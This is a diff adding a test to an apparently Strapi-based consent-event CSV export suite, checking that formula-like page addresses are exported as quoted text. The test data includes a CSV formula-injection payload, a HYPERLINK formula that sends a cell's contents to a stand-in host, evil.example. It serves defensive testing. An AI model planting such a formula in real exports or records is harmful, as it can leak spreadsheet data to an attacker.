@@ -279,6 +279,31 @@ describe('GET /consent/events/export?format=csv', () => {
     expect(rows[1][CSV_COLUMNS.indexOf('pageUrl')]).toBe('https://shop.example/say "hi", then\r\nleave');
   });
 
+  it('a page address that a spreadsheet would run as a formula is exported as text (leading quote)', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
+    await ledger().append([
+      at('2025-05-01T00:00:00.000Z', { purpose: 'partners', subject: 'formula-1', pageUrl: formula }),
+      at('2025-05-01T00:00:01.000Z', { purpose: 'partners', subject: 'formula-1', pageUrl: '@SUM(1+1)' }),
+    ]);
+    const res = await admin
+      .get('/consent/events/export')
+      .query({ subject: 'formula-1' })
+      .buffer(true)
+      .parse((r, cb) => {
+        let text = '';
+        r.on('data', (chunk: Buffer) => (text += chunk.toString('utf8')));
+        r.on('end', () => cb(null, text));
+      });
+    expect(res.status).toBe(200);
+    const rows = parseCsv(res.body as string).slice(1);
+    expect(rows.map((r) => r[CSV_COLUMNS.indexOf('pageUrl')])).toEqual([`'${formula}`, "'@SUM(1+1)"]);
+    // The ledger itself keeps what was recorded: only the export is neutralised.
+    const stored = await app.strapi.db
+      .query('plugin::consent.consent-event')
+      .findMany({ where: { subject: 'formula-1' }, orderBy: { seq: 'asc' } });
+    expect(stored.map((e: { pageUrl: string }) => e.pageUrl)).toEqual([formula, '@SUM(1+1)']);
+  });
+
   it('takes the same filters; an unknown address gives the header alone; bad filters answer 400 before any line', async () => {
     const text = async (query: Record<string, string>) =>
       (
